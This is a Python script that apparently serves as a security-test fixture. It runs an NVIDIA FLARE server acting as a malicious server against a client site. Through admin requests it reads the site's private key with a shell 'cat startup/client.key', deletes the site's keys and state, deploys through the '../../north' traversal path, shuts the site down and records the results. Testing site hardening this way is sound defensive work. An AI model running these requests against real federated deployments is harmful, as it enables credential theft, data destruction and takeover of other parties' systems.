"""FLARE's own process of a server that attacks a site: it wants the site's files, and its processes and folders to end.

Whoever runs the server can run this: it starts FLARE as `start_program.py` does, and asks on the side. What came of it
is written to ATTACKS in the server's folder.
"""

import json
import sys
import threading
import time
from pathlib import Path
from typing import Any

from nvflare.fuel.f3.cellnet.core_cell import CoreCell
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.message import Message
from nvflare.private.admin_defs import Message as Request
from nvflare.private.defs import CellChannel, RequestHeader, SysCommandTopic, TrainingTopic, new_cell_message

from fedlin.deploy.flare import start_program
from hostile_site import ATTACKS, VICTIM

# What is asked of FLARE's own process at the site, with the job that it names.
REQUESTS: dict[str, tuple[str, str | bytes, str | None]] = {
    "read a key": (SysCommandTopic.SHELL, "cat startup/client.key", None),
    "delete the site's keys": (TrainingTopic.DELETE_RUN, "", "startup"),
    "delete the site's state": (TrainingTopic.DELETE_RUN, "", "state"),
    "put a job beside its folder": (TrainingTopic.DEPLOY, b"", "../../north"),
    "end the site": (TrainingTopic.SHUTDOWN, "", None),
}
TOOLS = ("stop_cell", "process_info", "stress")  # of FLARE's cells, which every process has
_WAIT = 3.0  # seconds for an answer


def attack() -> None:
    """Ask, once the site is there."""
    while (core := CoreCell.ALL_CELLS.get("server")) is None or VICTIM not in core.agents:
        time.sleep(0.1)
    time.sleep(_WAIT)  # the site registers, and answers from then on
    found = {name: ask(core, *request) for name, request in REQUESTS.items()}
    for tool in TOOLS:
        found[tool] = answer(core, "_net_manager", tool, Message())
    Path(ATTACKS).write_text(json.dumps(found))


def ask(core: CoreCell, topic: str, body: str | bytes, job: str | None) -> str:
    """What the victim's own process answers to a request of an administrator's."""
    request = Request(topic=topic, body=body)
    if job is not None:
        request.set_header(RequestHeader.JOB_ID, job)
    return answer(core, CellChannel.CLIENT_MAIN, "admin", new_cell_message({}, request))


def answer(core: CoreCell, channel: str, topic: str, message: Message) -> str:
    """What comes back."""
    reply = core.send_request(channel, topic, VICTIM, message, timeout=_WAIT)
    body: Any = getattr(reply.payload, "body", reply.payload)
    return str(reply.get_header(MessageHeaderKey.RETURN_CODE) if body is None else body)


if __name__ == "__main__":
    threading.Thread(target=attack, daemon=True).start()
    start_program.start(sys.argv.pop(1))
